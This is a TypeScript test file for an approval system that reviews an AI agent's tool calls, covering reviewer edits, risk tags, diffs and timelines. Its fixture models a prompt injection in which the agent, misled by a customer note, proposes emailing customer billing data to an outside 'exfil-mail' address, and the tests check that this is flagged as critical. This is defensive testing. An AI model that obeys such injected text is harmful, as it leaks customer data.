import { describe, expect, it } from "vitest";
import { setUpTestDatabase, setUpTestTenant } from "@/tests/fixtures";
import { holdTask } from "@/tests/factories";
import { expectEventsToFitTheirSchemas } from "@/tests/audit-schemas";
import { proposeAction } from "@/lib/approvals/propose-action";
import { editAction } from "@/lib/approvals/edit-action";
import { decideAction } from "@/lib/approvals/decide-action";
import { executeAction } from "@/lib/approvals/execute-action";
import { getTaskTimeline } from "@/lib/tasks/get-task-timeline";
import { diffFields, type PayloadDiff } from "@/lib/approvals/payload-diff";
import type { RiskTag } from "@/lib/risk/risk-tag";
import { INJECTION_NOTE } from "@/lib/demo/seed";

const t = setUpTestDatabase();
const a = setUpTestTenant(t);

// The agent read the customer's note carrying the injected instruction and emails its address.
const EXFIL = {
  to: "audit-desk@exfil-mail.example",
  subject: "Customer list",
  body: "Acme Corporation billing@acme.example 25,000.00",
  invoice_number: "INV-1046",
};

async function proposeExfil() {
  const outcome = await proposeAction(t.db, {
    tenantId: a.id, requester: a.requester, tool: "send_email", args: EXFIL, untrustedValues: [INJECTION_NOTE],
  });
  if (outcome.state !== "pending") throw new Error(`expected pending, got ${outcome.state}`);
  return outcome;
}

async function revisionOf(actionId: string, revision: number) {
  const row = await t.db.actionRevision.findFirstOrThrow({ where: { actionId, revision } });
  return { tags: row.riskTags as unknown as RiskTag[], diff: row.diff as unknown as PayloadDiff | null };
}

const keyed = (tags: Pick<RiskTag, "id" | "path">[]) => tags.map((tag) => `${tag.id}@${tag.path ?? ""}`).sort();

describe("an edited revision is assessed against the proposal's untrusted sources", () => {
  it("a one-word subject edit keeps every tag, including the injection and provenance tags on the unedited `to`", async () => {
    const p = await proposeExfil();
    const before = await revisionOf(p.actionId, 1);
    expect(keyed(before.tags)).toEqual(expect.arrayContaining([
      "provenance.untrusted@to", "recipient.outside-domain@to", "exfiltration.outside-recipient@to",
    ]));
    expect(before.tags.some((tag) => tag.id.startsWith("untrusted-input."))).toBe(true);

    const next = await editAction(t.db, {
      tenantId: a.id, actionId: p.actionId, editor: a.users.reviewer.member, payloadHash: p.payloadHash,
      args: { ...EXFIL, subject: "Customer list (Q4)" },
    });
    expect(next).toMatchObject({ revision: 2, status: "pending" });
    const after = await revisionOf(p.actionId, 2);
    expect(keyed(after.tags)).toEqual(keyed(before.tags));
    expect(after.diff?.removedTags).toEqual([]);
    // The changed subject, word by word.
    expect(after.diff?.fields).toEqual([{
      path: "subject", change: "changed", before: "Customer list", after: "Customer list (Q4)",
      words: [{ kind: "same", text: "Customer list" }, { kind: "added", text: " (Q4)" }],
    }]);
    const action = await t.db.action.findUniqueOrThrow({ where: { id: p.actionId } });
    expect(action.riskLevel).toBe("critical");
    expect(action.untrustedValues).toEqual([INJECTION_NOTE]);
  });

  it("an edit that replaces the injected recipient removes its tags and lists them as removed, with their fields", async () => {
    const p = await proposeExfil();
    await editAction(t.db, {
      tenantId: a.id, actionId: p.actionId, editor: a.users.reviewer.member, payloadHash: p.payloadHash,
      args: { ...EXFIL, to: "finance@globex.example" },
    });
    const after = await revisionOf(p.actionId, 2);
    const removed = keyed(after.diff?.removedTags ?? []);
    expect(removed).toEqual(expect.arrayContaining([
      "provenance.untrusted@to", "recipient.outside-domain@to", "exfiltration.outside-recipient@to",
    ]));
    for (const gone of removed) expect(keyed(after.tags)).not.toContain(gone);
    // What the agent read is still what it read: its injection warning stays on the edited revision.
    expect(after.tags.some((tag) => tag.id.startsWith("untrusted-input."))).toBe(true);
    const revised = await t.db.auditEvent.findFirstOrThrow({ where: { actionId: p.actionId, type: "action.revised" } });
    expect((revised.data as { removedTags: string[] }).removedTags).toEqual(expect.arrayContaining(["provenance.untrusted (to)"]));
    await expectEventsToFitTheirSchemas(t.db, a.id);
  });

  it("untrusted text PostgreSQL cannot store is kept with the unstorable characters replaced", async () => {
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "send_email", args: EXFIL, untrustedValues: [`${INJECTION_NOTE}\u0000\uD800`],
    });
    expect(outcome.state).toBe("pending");
    const action = await t.db.action.findUniqueOrThrow({ where: { id: outcome.actionId } });
    expect(action.untrustedValues).toEqual([`${INJECTION_NOTE}\uFFFD\uFFFD`]);
  });
});

describe("the requester's timeline shows the revision that ran", () => {
  const REFUND = { invoice_number: "INV-1043", amount_minor: 20_000, reason: "Customer overpaid" };

  async function taskWithRefund() {
    const task = await t.db.task.create({
      data: {
        tenantId: a.id, requesterUserId: a.users.requester.id, instruction: "Refund INV-1043", planner: "offline", status: "waiting_approval",
        runState: {
          v: 1, pending: [], untrusted: [],
          messages: [
            { role: "user", content: "Refund INV-1043" },
            { role: "assistant", content: "", tool_calls: [{ id: "call_1", type: "function", function: { name: "refund_invoice", arguments: JSON.stringify(REFUND) } }] },
          ],
        },
      },
    });
    const outcome = await proposeAction(t.db, {
      tenantId: a.id, requester: a.requester, tool: "refund_invoice", args: REFUND, taskId: task.id, taskLeaseOwner: await holdTask(t.db, task.id), agentCallId: "call_1",
    });
    if (outcome.state !== "pending") throw new Error(`expected pending, got ${outcome.state}`);
    return { task, outcome };
  }

  const callOf = async (taskId: string, requesterUserId = a.users.requester.id) => {
    const timeline = await getTaskTimeline(t.db, { tenantId: a.id, taskId, requesterUserId });
    const call = timeline?.entries.find((e) => e.kind === "call");
    if (!call || call.kind !== "call") throw new Error("no call entry");
    return call;
  };

  it("shows revision 2's arguments, edited by a reviewer, as what ran; revision 1's stay as what the agent proposed", async () => {
    const { task, outcome } = await taskWithRefund();
    expect((await callOf(task.id)).action?.revisedArgs).toBeNull();

    const next = await editAction(t.db, {
      tenantId: a.id, actionId: outcome.actionId, editor: a.users.reviewer.member, payloadHash: outcome.payloadHash,
      args: { ...REFUND, amount_minor: 15_000 },
    });
    const waiting = await callOf(task.id);
    expect(waiting.action?.revisedArgs).toMatchObject({ revision: 2, ran: false, origin: `edited by ${a.users.reviewer.email}` });
    expect(waiting.action?.revisedArgs?.argsText).toContain('"amount_minor": 15000');

    await decideAction(t.db, { tenantId: a.id, actionId: outcome.actionId, verdict: "approve", payloadHash: next.payloadHash, reviewer: a.users.reviewer2.member });
    const executed = await executeAction(t.db, {
      tenantId: a.id, actionId: outcome.actionId, payloadHash: next.payloadHash, executor: { type: "requester" },
      actor: { type: "user", id: a.users.requester.id, label: a.users.requester.email },
    });
    expect(executed.state).toBe("succeeded");

    const ran = await callOf(task.id);
    expect(ran.action?.status).toBe("succeeded");
    expect(ran.action?.revisedArgs).toMatchObject({ revision: 2, ran: true });
    expect(ran.action?.revisedArgs?.argsText).toContain('"amount_minor": 15000');
    expect(ran.action?.revisedArgs?.argsText).not.toContain("20000");
    // The agent's own call is still there, for what it asked.
    expect(ran.argsText).toContain('"amount_minor": 20000');
  });

  it("another member cannot read the requester's timeline", async () => {
    const { task } = await taskWithRefund();
    expect(await getTaskTimeline(t.db, { tenantId: a.id, taskId: task.id, requesterUserId: a.users.reviewer.id })).toBeNull();
  });
});

describe("a changed text is diffed word by word, as phrases", () => {
  it("keeps the words both share and gives each run of changes its removed, then its added text", () => {
    const [reason] = diffFields({ reason: "Customer returned the goods today" }, { reason: "Partial return today" }, "", { words: true });
    expect(reason.words).toEqual([
      { kind: "removed", text: "Customer returned the goods " },
      { kind: "added", text: "Partial return " },
      { kind: "same", text: "today" },
    ]);
    // Without `words` (the state-now comparison on page load) nothing is diffed word by word.
    expect(diffFields({ reason: "a b" }, { reason: "a c" })[0].words).toBeUndefined();
  });
});
